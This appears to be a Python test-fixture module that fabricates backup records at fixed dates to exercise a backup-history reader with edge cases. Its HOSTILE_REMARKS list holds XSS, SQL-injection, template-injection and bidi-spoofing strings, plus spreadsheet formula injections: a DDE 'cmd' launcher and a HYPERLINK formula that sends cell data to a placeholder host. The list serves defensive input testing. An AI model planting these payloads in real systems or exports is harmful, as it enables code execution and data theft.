"""Records that test their reader: every status and error code, hostile remarks, odd fields.

These stand at fixed dates, so that a link to one of them stays true.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from .histories import automatic, daily, manual
from .inventory import Instance
from .records import ERROR_CODES, MISSING, Attempt, Json, stable_id

_FROM = datetime(2026, 11, 1, tzinfo=UTC)


def every_error_code(instance: Instance, now: datetime) -> Iterator[Attempt]:
    """The eight error codes on eight days, a success behind them, and a code that no page lists."""
    for number, code in enumerate([None, *ERROR_CODES, "dcs.08.0042"]):
        day = (_FROM + timedelta(days=number)).date()
        yield automatic(instance, day, error_code=code, remark=f"case {code}" if code else None)


def every_status(instance: Instance, now: datetime) -> Iterator[Attempt]:
    """The six statuses, one that does not exist yet, and a type that does not exist either."""
    restorable = {"is_support_restore": "TRUE"}
    cases: list[Json] = [
        {"status": "waiting", "progress": "0.00", "size": 0},
        {"status": "backuping", "progress": "41.50", "size": 0},
        {"status": "succeed", **restorable},
        {"status": "succeed", "remark": "made before the change of specification"},
        {"status": "failed", "error_code": "dcs.08.0006", "progress": "63.00"},
        {"status": "expired"},
        {"status": "deleted", "backup_type": "manual"},
        {"status": "archived", "remark": "a status that no page lists"},
        {"status": "succeed", "backup_type": "replica", "remark": "a type that no page lists", **restorable},
    ]
    return _placed(instance, "status", [{"is_support_restore": "FALSE", **case} for case in cases])


def hostile_remarks(instance: Instance, now: datetime) -> Iterator[Attempt]:
    """What a user may have typed: markup, spreadsheet formulas, control characters, odd scripts."""
    manual_ones = [{"backup_type": "manual", "remark": text, "period": None} for text in HOSTILE_REMARKS]
    return _placed(instance, "remark", manual_ones)


HOSTILE_REMARKS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }} {% now 'Y' %}", "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2", "@SUM(1+1)*2", "\t=1+1",
    "\r=1+1", "two\nlines", 'it\'s "quoted", with; separators | and `ticks`', "100% of %s & more %20",
    "\u202egnp.tsaf\u202c", "zero\u200bwidth\ufeff and nul-like ␀", "a\x00b\x1b[31mred",
    "e\u0301 é Straße STRASSE ſ İ ı", "emoji 🧯🧑\u200d🚒 and 𠮷野家", "' OR 1=1; --", "javascript:alert(1)",
    "n" * 128, "长" * 128, " ",
)  # fmt: skip


def chinese(instance: Instance, now: datetime) -> Iterator[Attempt]:
    """An ordinary history with Chinese remarks."""
    remarks = ("发布前备份", "扩容前备份，请勿删除", "大促压测：双十一", "工单 INC-20511 手动备份")
    return daily(instance, now, days=35, manual_every=6, remarks=remarks, auto_remark="每日自动备份")


def resized(instance: Instance, now: datetime) -> Iterator[Attempt]:
    """Everything from before a change of specification succeeded and cannot be restored."""
    changed = _FROM + timedelta(days=14)
    for number in range(0, 22, 3):
        copy = manual(instance, (_FROM + timedelta(days=number)).date(), remark="weekly copy")
        yield replace(copy, restorable=copy.created >= changed)


def stopped(instance: Instance, now: datetime, *, last: Json) -> Iterator[Attempt]:
    """Nightly until 15 November and none since; `last` is what is different of the last one."""
    for number in range(20):
        nightly = automatic(instance, (_FROM + timedelta(days=14 - number)).date(), remark="nightly")
        yield nightly if number else replace(nightly, **last)


def odd_fields(instance: Instance, now: datetime) -> Iterator[Attempt]:
    """Every oddity of dcs-api.md, section 1, one or two to a record."""
    return _placed(instance, "odd", ODD_CASES)


# What replaces a field of an ordinary record; MISSING takes the field away.
ODD_CASES: list[Json] = [
    {"remark": {}, "period": {}, "error_code": {}, "backup_format": {}, "execution_at": {}},
    {"remark": None, "period": None, "error_code": None, "backup_format": None, "execution_at": None},
    {"remark": "", "period": "", "error_code": "", "backup_format": "", "execution_at": "", "progress": ""},
    dict.fromkeys(
        ("remark", "period", "error_code", "backup_format", "execution_at", "instance_id", "progress"),
        MISSING,
    ),
    {"size": "73400320", "remark": "size as a string"},
    {"size": "", "remark": "size empty"},
    {"size": {}, "remark": "size as {}"},
    {"size": -1, "remark": "size below zero"},
    {"size": 9.5e18, "remark": "size beyond 64 bits, as a float"},
    {"size": "1.5 GB", "remark": "size in words"},
    {"size": 0, "remark": "size zero"},
    {"size": 6_597_069_766_656, "remark": "size of 6 TB"},
    {"is_support_restore": "true", "remark": "restorable in lower case"},
    {"is_support_restore": True, "remark": "restorable as a boolean"},
    {"is_support_restore": False, "remark": "not restorable as a boolean"},
    {"is_support_restore": "maybe", "remark": "restorable: maybe"},
    {"is_support_restore": MISSING, "remark": "restorable missing"},
    {"is_support_restore": {}, "remark": "restorable as {}"},
    {"is_support_restore": " TRUE ", "remark": "restorable with blanks"},
    {"backup_format": "RDB", "remark": "format in capitals"},
    {"backup_format": "aof", "remark": "format aof"},
    {"backup_format": "AOF", "remark": "format aof in capitals"},
    {"backup_format": "snapshot", "remark": "a format that no page lists"},
    {
        "created_at": "2026-11-09 08:31:16",
        "execution_at": "2026-11-09 08:31:21",
        "updated_at": "2026-11-09 08:32:30",
        "remark": "times with a blank",
    },
    {
        "created_at": "2026-11-10T08:31:16.166Z",
        "execution_at": "2026-11-11T08:31:16.166Z",
        "updated_at": "2026-11-10T08:32:30.546Z",
        "remark": "started a day after it ended, as in an official sample",
    },
    {"created_at": "2026-11-10T16:31:16+08:00", "remark": "time with an offset"},
    {"execution_at": "yesterday", "remark": "start not readable"},
    {"created_at": "not a time", "execution_at": MISSING, "remark": "no time at all readable"},
    {"updated_at": "0000-00-00 00:00:00", "remark": "end not readable"},
    {"created_at": 1_762_000_000_000, "remark": "created_at as a number"},
    {"progress": "", "remark": "progress empty"},
    {"progress": "abc", "remark": "progress in letters"},
    {"progress": 100, "remark": "progress as a number"},
    {"progress": "250.00", "remark": "progress beyond 100"},
    {"status": "backuping", "progress": None, "size": "", "remark": "running, progress unknown"},
    {"status": "SUCCEED", "remark": "status in capitals"},
    {"status": "quarantined", "remark": "a status that no page lists"},
    {"status": None, "remark": "status null"},
    {"status": MISSING, "remark": "status missing"},
    {"status": "succeed", "error_code": "dcs.08.0002", "remark": "succeeded with an error code"},
    {
        "status": "failed",
        "error_code": None,
        "is_support_restore": "TRUE",
        "remark": "failed, yet restorable",
    },
    {"status": "failed", "error_code": "DCS.08.0009", "remark": "an error code that no page lists"},
    {"backup_type": "weekly", "remark": "a type that no page lists"},
    {"backup_type": MISSING, "remark": "type missing"},
    {"backup_name": MISSING, "remark": "name missing"},
    {"backup_name": {}, "remark": "name as {}"},
    {"backup_name": "a name <b>with</b> markup & more", "remark": "name with markup"},
    {"remark": ["a", "list"], "period": 22},
    {"remark": 42},
    {"remark": "a very long remark, far beyond the documented 128 characters. " * 80},
    {"future_field": {"nested": [1, 2, {"deep": True}]}, "remark": "a field that no page lists"},
]


def _placed(instance: Instance, label: str, cases: list[Json]) -> Iterator[Attempt]:
    """An automatic backup per case, seven hours apart; the service's own created time stays in order."""
    for number, case in enumerate(cases):
        backup_id = stable_id(instance.instance_id, label, number)
        created = _FROM + timedelta(hours=7 * number, minutes=3, milliseconds=217)
        size = 73_400_320 + int(created.timestamp()) % 1_000_003
        fields: Json = {"wait": 5.295, "period": instance.backup_period, "changes": case}
        yield Attempt(instance.instance_id, backup_id, created, seconds=69.085, size=size, **fields)
